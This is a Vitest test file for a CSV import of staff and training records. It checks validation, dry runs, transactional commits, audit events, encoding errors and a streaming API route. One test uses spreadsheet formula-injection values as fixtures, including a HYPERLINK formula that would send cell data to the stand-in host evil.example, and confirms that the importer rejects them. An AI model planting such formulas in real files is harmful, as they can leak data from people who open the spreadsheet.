import { beforeEach, describe, expect, it, vi } from "vitest";
import { prisma } from "@/lib/db/client";
import { NOT_CSV_MESSAGE, NOT_UTF8_MESSAGE } from "@/lib/csv/parse";
import { runImport, type ImportEvent, type ImportKind } from "@/lib/import/run";
import { POST as importRoute } from "@/app/api/import/[kind]/route";
import { signInNew } from "@/tests/support/actors";
import { rowCounts } from "@/tests/support/counts";
import { makeLocation, makePerson } from "@/tests/support/factories";
import { testEngine } from "@/tests/support/test-database";
import { english } from "@/tests/support/words";

vi.mock("next/headers", async () => (await import("@/tests/support/session")).nextHeadersMock);

/**
 * CSV imports of people and training records: checked row by row (a dry run writes nothing),
 * committed in one transaction with an audit event per row, or not at all.
 */
type Result = Extract<ImportEvent, { type: "result" }>;

const PEOPLE_HEADER = "employee_id,first_name,last_name,role,employment_start,provider_type,credential_tier";
const TRAINING_HEADER = "employee_id,kind,title,tasks,completed_on,hours,certification_type,notes";
const csv = (...lines: string[]) => new TextEncoder().encode(`${lines.join("\r\n")}\r\n`);

let locationId: string;
let manager: Awaited<ReturnType<typeof signInNew>>;

beforeEach(async () => {
  locationId = (await makeLocation()).id;
  manager = await signInNew([{ role: "manager", locationId }], [locationId]);
});

async function run(kind: ImportKind, bytes: Uint8Array, options: { commit?: boolean; allOrNothing?: boolean } = {}) {
  const events: ImportEvent[] = [];
  const context = { actorUserId: manager.user.id, actorLabel: manager.user.email, ip: null, userAgent: null };
  await runImport(kind, bytes, { commit: false, allOrNothing: false, locationId, context, ...options }, (e) => events.push(e));
  // The rows say their problems; the route words them for the reader, here in English.
  const last = events.at(-1);
  const result = last?.type === "result" ? { ...last, message: english(last.message)!, rows: last.rows.map((r) => ({ ...r, messages: r.messages.map((m) => english(m)!) })) } : last;
  expect(result?.type, "the last event is the result").toBe("result");
  expect(events.filter((e) => e.type === "result"), "exactly one result").toHaveLength(1);
  return { events, result: result as Result };
}

const messagesOf = (result: Result, line: number) => result.rows.find((r) => r.line === line)?.messages ?? [];

describe(`importing people (${testEngine})`, () => {
  // Four people, the third with a date that does not exist; `prefix` keeps employee IDs unique per test.
  const file = (prefix: string) =>
    csv(
      PEOPLE_HEADER,
      `${prefix}100,Maria,Lopez,medical_assistant,2025-03-01,,ma_c`,
      `${prefix}101,Daniel,Lee,provider,2024-01-15,MD,`,
      `${prefix}102,Kevin,Park,medical_assistant,2026-02-30,,`,
      `${prefix}103,Aisha,Khan,Medical_Assistant,2025-09-01,,MA-R`,
    );

  it("a dry run checks every row, reports per-row results and writes nothing", async () => {
    const before = await rowCounts();
    const { events, result } = await run("people", file("D"));
    expect(events[0]).toEqual({ type: "progress", phase: "checking", done: 0, total: 4 });
    expect(result).toMatchObject({ ok: true, imported: 0, counts: { ok: 3, error: 1, duplicate: 0 } });
    expect(result.message).toMatch(/^3 of 4 rows are ready to import; 1 ha(s|ve) problems\.$/);
    expect(result.rows).toEqual([
      { line: 2, status: "ok", messages: [] },
      { line: 3, status: "ok", messages: [] },
      { line: 4, status: "error", messages: ["employment_start: employment start is not a real calendar date."] },
      { line: 5, status: "ok", messages: [] },
    ]);
    expect(await rowCounts()).toEqual(before);
  });

  it("a commit writes the valid rows, their location and one audit event each, and skips the bad row", async () => {
    const before = await rowCounts();
    const { events, result } = await run("people", file("E"), { commit: true });
    expect(result).toMatchObject({ ok: true, imported: 3, message: "Imported 3 rows; 1 skipped." });
    expect(events).toContainEqual({ type: "progress", phase: "importing", done: 3, total: 4 });

    const people = await prisma.person.findMany({ where: { employeeId: { in: ["E100", "E101", "E102", "E103"] } }, include: { locations: true }, orderBy: { employeeId: "asc" } });
    expect(people.map((p) => [p.employeeId, p.firstName, p.isMedicalAssistant, p.providerType, p.credentialTier])).toEqual([
      ["E100", "Maria", true, null, "ma_c"],
      ["E101", "Daniel", false, "MD", "none"],
      ["E103", "Aisha", true, null, "ma_r"],
    ]);
    expect(people.every((p) => p.locations.length === 1 && p.locations[0]!.locationId === locationId)).toBe(true);
    const audit = await prisma.auditEvent.findMany({ where: { action: "person.import" } });
    expect(audit.map((e) => e.personId).sort()).toEqual(people.map((p) => p.id).sort());
    expect(audit.every((e) => e.actorUserId === manager.user.id && e.locationId === locationId)).toBe(true);
    const after = await rowCounts();
    expect([after.people - before.people, after.changes - before.changes]).toEqual([3, 3]);
  });

  it("all or nothing with one bad row imports nothing", async () => {
    const before = await rowCounts();
    const { result } = await run("people", file("A"), { commit: true, allOrNothing: true });
    expect(result).toMatchObject({ ok: false, imported: 0, message: "Nothing imported: 1 row has problems, and you chose all or nothing." });
    expect(messagesOf(result, 4)).toEqual(["employment_start: employment start is not a real calendar date."]);
    expect(await rowCounts()).toEqual(before);
  });

  it("refuses formula cells, repeated and existing employee IDs, and short rows, each with a clear message", async () => {
    await makePerson({ employeeId: "E900", locationIds: [locationId] });
    const { result } = await run(
      "people",
      csv(
        PEOPLE_HEADER,
        'E200,"=HYPERLINK(""https://evil.example/?""&A1,""Click"")",Lopez,medical_assistant,2025-03-01,,',
        "E201,@SUM(A1),Lee,medical_assistant,2025-03-01,,",
        "E202,Rosa,Diaz,medical_assistant,2025-03-01,,",
        "e202,Rosa,Diaz,medical_assistant,2025-03-01,,",
        "E900,Sam,Stone,medical_assistant,2025-03-01,,",
        "E203,Only,Three",
        "E204,Ana,Ruiz,nurse,2025-03-01,,",
      ),
      { commit: true },
    );
    expect(messagesOf(result, 2)).toEqual(['first_name: "=HYPERLINK("https://evil.examp" starts like a spreadsheet formula; remove the leading "=".']);
    expect(messagesOf(result, 3)).toEqual(['first_name: "@SUM(A1)" starts like a spreadsheet formula; remove the leading "@".']);
    expect(result.rows.find((r) => r.line === 5)).toEqual({ line: 5, status: "duplicate", messages: ["employee_id e202 repeats line 4; this row is skipped."] });
    expect(messagesOf(result, 6)).toEqual(["employee_id: E900 already exists in Cleared."]);
    expect(messagesOf(result, 7)).toEqual(["This row has 3 cells; the header has 7."]);
    expect(messagesOf(result, 8)).toEqual(["role: must be medical_assistant or provider"]);
    expect(result).toMatchObject({ ok: true, imported: 1, counts: { ok: 1, error: 5, duplicate: 1 } });
    expect(await prisma.person.count({ where: { firstName: { startsWith: "=" } } })).toBe(0);
  });
});

describe(`files that cannot be imported at all (${testEngine})`, () => {
  const utf16 = (text: string) => {
    const bytes = new Uint8Array(2 + text.length * 2);
    bytes.set([0xff, 0xfe]);
    for (let i = 0; i < text.length; i++) bytes[2 + i * 2] = text.charCodeAt(i);
    return bytes;
  };

  it.each([
    ["a missing required column", csv("employee_id,first_name,last_name,role", "E1,Maria,Lopez,medical_assistant"), 'The file is missing the required column "employment_start".'],
    ["an extra column", csv(`${PEOPLE_HEADER},salary`, "E1,Maria,Lopez,medical_assistant,2025-03-01,,,50000"), 'The column "salary" is not recognized. Accepted columns: "employee_id", "first_name", "last_name", "role", "employment_start", "provider_type", "credential_tier".'],
    ["a repeated column", csv("employee_id,first_name,last_name,role,employment_start,Role", "E1,Maria,Lopez,medical_assistant,2025-03-01,x"), 'The column "role" appears more than once. Keep one of each.'],
    ["Latin-1 text (not UTF-8)", new Uint8Array([...csv(PEOPLE_HEADER), ...new TextEncoder().encode("E1,Jos"), 0xe9, ...csv(",Lopez,medical_assistant,2025-03-01,,")]), english(NOT_UTF8_MESSAGE)],
    ["UTF-16 text (Excel's Unicode Text)", utf16(`${PEOPLE_HEADER}\r\nE1,Maria,Lopez,medical_assistant,2025-03-01,,\r\n`), english(NOT_UTF8_MESSAGE)],
    ["a spreadsheet renamed .csv", new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00, 0x00, 0x00]), english(NOT_CSV_MESSAGE)],
    ["an unterminated quote", csv(PEOPLE_HEADER, 'E1,"Maria,Lopez,medical_assistant,2025-03-01,,'), 'Line 2: A quoted value starts on this line but its closing quote (") is missing.'],
    ["a header and no rows", csv(PEOPLE_HEADER), "The file has a header but no rows to import."],
    ["an empty file", new Uint8Array(0), "The file is empty."],
  ])("refuses %s with a message saying what to do, writing nothing", async (_case, bytes, message) => {
    const before = await rowCounts();
    const { result } = await run("people", bytes, { commit: true });
    expect(result).toMatchObject({ ok: false, imported: 0, message, rows: [] });
    expect(await rowCounts()).toEqual(before);
  });

  it("accepts a UTF-8 file with a byte-order mark and non-ASCII names", async () => {
    const { result } = await run("people", new Uint8Array([0xef, 0xbb, 0xbf, ...csv(PEOPLE_HEADER, "E1,José,Núñez,medical_assistant,2025-03-01,,")]), { commit: true });
    expect(result).toMatchObject({ ok: true, imported: 1 });
    expect(await prisma.person.findUniqueOrThrow({ where: { employeeId: "E1" } })).toMatchObject({ firstName: "José", lastName: "Núñez" });
  });
});

describe(`importing training records (${testEngine})`, () => {
  let maria: Awaited<ReturnType<typeof makePerson>>;
  beforeEach(async () => {
    maria = await makePerson({ employeeId: `M${Math.random().toString(36).slice(2, 8)}`, locationIds: [locationId] });
  });

  it("writes the records with their tasks and an audit event each; duplicates and unknown references are reported, not imported", async () => {
    await makePerson({ employeeId: "ELSEWHERE1", locationIds: [(await makeLocation()).id] });
    const id = maria.employeeId!;
    const before = await rowCounts();
    const { result } = await run(
      "training",
      csv(
        TRAINING_HEADER,
        `${id},training,Phlebotomy course,venipuncture;specimens,2026-01-05,12,,`,
        `${id.toLowerCase()},training,PHLEBOTOMY COURSE,venipuncture,2026-01-05,12,,`,
        `${id},certification,CCMA,,2025-06-01,,ccma_nha,`,
        `ELSEWHERE1,training,Vitals,vitals,2026-01-05,2,,`,
        `${id},training,Mystery,teleportation,2026-01-05,1,,`,
        `${id},training,Essay,vitals,2026-01-05,1,,${"n".repeat(100_000)}`,
        `${id},training,Vitals basics,vitals,2026-01-05,1,,`,
      ),
      { commit: true },
    );
    expect(result.rows.find((r) => r.line === 3)).toEqual({ line: 3, status: "duplicate", messages: ["Same person, kind, title and date as line 2; this row is skipped."] });
    expect(messagesOf(result, 5)).toEqual(["employee_id: no one with ID ELSEWHERE1 works at this location."]);
    expect(messagesOf(result, 6)).toEqual(["tasks: unknown task code teleportation."]);
    expect(messagesOf(result, 7)).toEqual(["notes: notes must be at most 2000 characters."]);
    expect(result).toMatchObject({ ok: true, imported: 3, counts: { ok: 3, error: 3, duplicate: 1 } });

    const records = await prisma.trainingRecord.findMany({ where: { personId: maria.id }, include: { tasks: true }, orderBy: { title: "asc" } });
    expect(records.map((r) => [r.title, r.kind, r.certificationType, r.tasks.map((t) => t.taskId).sort()])).toEqual([
      ["CCMA", "certification", "CCMA_NHA", []],
      ["Phlebotomy course", "training", null, ["taskspecimens", "taskvenipuncture"]],
      ["Vitals basics", "training", null, ["taskvitals"]],
    ]);
    expect(records.find((r) => r.title === "Phlebotomy course")!.completedOn.toISOString()).toBe("2026-01-05T00:00:00.000Z");
    const after = await rowCounts();
    expect([after.records - before.records, after.changes - before.changes]).toEqual([3, 3]);
    expect(await prisma.auditEvent.count({ where: { action: "record.import", personId: maria.id, actorUserId: manager.user.id } })).toBe(3);

    // Importing the same file again finds every record already there.
    const again = await run("training", csv(TRAINING_HEADER, `${id},training,Phlebotomy course,venipuncture,2026-01-05,12,,`), { commit: true });
    expect(again.result).toMatchObject({ ok: false, message: "Nothing imported: no row is valid.", rows: [{ line: 2, status: "duplicate", messages: ["This record is already in Cleared; the row is skipped."] }] });
    expect(await rowCounts()).toEqual(after);
  });
});

describe(`POST /api/import/[kind] (${testEngine})`, () => {
  it("streams progress as JSON lines and ends with the result; a commit writes the rows", async () => {
    const maria = await makePerson({ employeeId: "ROUTE1", locationIds: [locationId] });
    const form = new FormData();
    form.set("locationId", locationId);
    form.set("commit", "true");
    form.set("file", new File([csv(TRAINING_HEADER, "ROUTE1,training,Vitals refresher,vitals,2026-01-05,2,,")], "training.csv", { type: "text/csv" }));
    const response = await importRoute(new Request("http://test/api/import/training", { method: "POST", body: form }), { params: Promise.resolve({ kind: "training" }) });

    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/x-ndjson");
    const lines = (await response.text()).trimEnd().split("\n").map((line) => JSON.parse(line) as ImportEvent);
    expect(lines[0]).toMatchObject({ type: "progress", phase: "checking", done: 0, total: 1 });
    expect(lines.at(-1)).toEqual({ type: "result", ok: true, message: "Imported 1 row.", imported: 1, counts: { ok: 1, error: 0, duplicate: 0 }, rows: [{ line: 2, status: "ok", messages: [] }] });
    expect(await prisma.trainingRecord.count({ where: { personId: maria.id, title: "Vitals refresher" } })).toBe(1);
    expect(await prisma.auditEvent.count({ where: { action: "record.import", personId: maria.id, actorUserId: manager.user.id } })).toBe(1);
  });

  it("words the rows' problems in the reader's language before answering", async () => {
    await prisma.user.update({ where: { id: manager.user.id }, data: { locale: "es" } });
    const form = new FormData();
    form.set("locationId", locationId);
    form.set("file", new File([csv(PEOPLE_HEADER, "ES1,,Lopez,nurse,2025-03-01,,")], "people.csv", { type: "text/csv" }));
    const response = await importRoute(new Request("http://test/api/import/people", { method: "POST", body: form }), { params: Promise.resolve({ kind: "people" }) });
    const result = (await response.text()).trimEnd().split("\n").map((line) => JSON.parse(line) as ImportEvent).at(-1) as Result;
    expect(result.rows).toEqual([{ line: 2, status: "error", messages: ["first_name: El campo «nombre» es obligatorio.", "role: debe ser medical_assistant o provider"] }]);
  });
});
